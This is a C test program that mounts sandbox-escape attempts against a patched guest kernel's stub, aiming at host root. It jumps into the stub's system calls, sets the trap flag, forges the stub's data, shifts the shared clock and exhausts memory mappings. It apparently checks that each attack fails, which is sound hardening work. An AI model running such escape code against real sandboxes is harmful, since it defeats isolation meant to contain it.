/*
 * A program under test that wants to be root on the host: it attacks the part of the guest's kernel that shares its
 * process, the stub (kernel/time-travel.patch). Each attack runs in a child, which must not live to exit with 0.
 *
 *     break_out stub    call the host from every system call of the stub's page, with arguments that would map memory
 *     break_out trap    let the stub call its kernel with the trap flag set, to be interrupted while it has its key
 *     break_out forge   call the kernel as the stub does, with data of every kind
 *     break_out time    move the clock by a second
 *     break_out parts   have memory of more parts than the host maps for a process, so that the stub's calls fail
 *
 * It prints a line for each attack that did something, and "survived: N of M" at the end.
 */
#define _GNU_SOURCE
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096UL
#define HANDSHAKE "\xb8\x6e\x00\x00\x00\x0f\x05" /* mov $getppid, %eax; syscall */

static sigjmp_buf back;
static uint8_t *stub, *data;
static int made, survived;

static void jump_back(int signal)
{
	siglongjmp(back, signal);
}

static int is_readable(const uint8_t *page)
{
	if (sigsetjmp(back, 1))
		return 0;
	(void)*(volatile const uint8_t *)page;
	return 1;
}

/* The stub is two or three pages below the end of the address space, its code first: find it by its handshake. */
static void find_stub(void)
{
	for (uintptr_t at = 0x7ffffffff000UL; at > 0x7fffff000000UL; at -= PAGE)
		if (is_readable((uint8_t *)at) && memmem((void *)at, PAGE, "\x0f\x05", 2)) {
			stub = (uint8_t *)at;
			data = stub + PAGE;
			return;
		}
	puts("no stub was found");
	exit(3);
}

/* Jump to `at` with the arguments of a system call; it returns only if something there does. */
static void jump(const uint8_t *at, long number, long a, long b, long c, long d, long e, long f, int trap)
{
	register long r10 asm("r10") = d, r8 asm("r8") = e, r9 asm("r9") = f;

	if (trap)
		asm volatile("pushfq; orq $0x100, (%%rsp); popfq; call *%%rbx"
			     : "+a"(number), "+r"(r10), "+r"(r8), "+r"(r9)
			     : "D"(a), "S"(b), "d"(c), "b"(at)
			     : "rcx", "r11", "r12", "r13", "r14", "memory", "cc");
	else
		asm volatile("call *%%rbx"
			     : "+a"(number), "+r"(r10), "+r"(r8), "+r"(r9)
			     : "D"(a), "S"(b), "d"(c), "b"(at)
			     : "rcx", "r11", "r12", "r13", "r14", "memory", "cc");
}

static void attempt(const char *name, void (*attack)(long), long with)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		for (int signal = 1; signal < 32; signal++)
			sigaction(signal, &(struct sigaction){ .sa_handler = SIG_DFL }, NULL);
		attack(with);
		_exit(0);
	}
	made++;
	if (waitpid(pid, &status, 0) != pid || (WIFEXITED(status) && WEXITSTATUS(status) == 0)) {
		survived++;
		printf("%s %ld: the program goes on\n", name, with);
	}
}

static void call_host(long offset)
{
	static const int numbers[] = { SYS_mmap, SYS_munmap, SYS_rt_sigreturn, SYS_arch_prctl, SYS_close, SYS_recvmsg };

	for (unsigned i = 0; i < sizeof numbers / sizeof *numbers; i++)
		jump(stub + offset, numbers[i], 0x10000000, 2L << 20, PROT_READ | PROT_WRITE, MAP_SHARED, 1, 0, 0);
}

static const uint8_t *handshake(void)
{
	const uint8_t *at = memmem(stub, PAGE, HANDSHAKE, 7);

	if (!at) {
		puts("no handshake was found");
		exit(3);
	}
	return at;
}

static void trap(long flag)
{
	jump(handshake() + (flag ? 5 : 0), SYS_getppid, 0, 0, 0, 0, 0, 0, 1);
}

/* No page may be touched for the first time once the data is forged: the fault would mend it. */
static void forge(long pattern)
{
	volatile uint64_t *words = (volatile uint64_t *)data;
	const uint8_t *at = handshake();
	const uint64_t value = (const uint64_t[]){
		0, ~0UL, 1, (uint64_t)data, (uint64_t)data + PAGE, (uint64_t)data + PAGE + 512, (uint64_t)stub, 0x4141414141414141UL,
	}[pattern % 8];

	asm volatile("call 1f; 1: addq $8, %%rsp" ::: "memory");
	for (unsigned i = 0; i < (pattern < 8 ? 1 : 2) * PAGE / 8; i++)
		words[i] = value;
	jump(at, SYS_getppid, 0, 0, 0, 0, 0, 0, 0);
}

static void move_time(long by_ns)
{
	volatile uint64_t *now = (void *)(getauxval(AT_SYSINFO_EHDR) - PAGE);

	*now += by_ns;
	getuid();
}

static void have_parts(long pages)
{
	volatile const uint8_t *memory = mmap(NULL, pages * PAGE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	for (long page = 0; page < pages; page++) /* each is the page of zeros, which lies nowhere beside itself */
		(void)memory[page * PAGE];
}

int main(int count, char **arguments)
{
	const char *mode = count > 1 ? arguments[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	signal(SIGSEGV, jump_back);
	signal(SIGBUS, jump_back);
	find_stub();
	if (!strcmp(mode, "stub"))
		for (unsigned at = 0; at + 2 <= PAGE; at++)
			if (stub[at] == 0x0f && stub[at + 1] == 0x05)
				attempt("stub", call_host, at);
	if (!strcmp(mode, "trap"))
		for (long flag = 0; flag < 2; flag++)
			attempt("trap", trap, flag);
	if (!strcmp(mode, "forge"))
		for (long pattern = 0; pattern < 16; pattern++)
			attempt("forge", forge, pattern);
	if (!strcmp(mode, "time"))
		attempt("time", move_time, 1L << 30);
	if (!strcmp(mode, "parts"))
		attempt("parts", have_parts, 80000);
	printf("survived: %d of %d\n", survived, made);
	return made == 0;
}
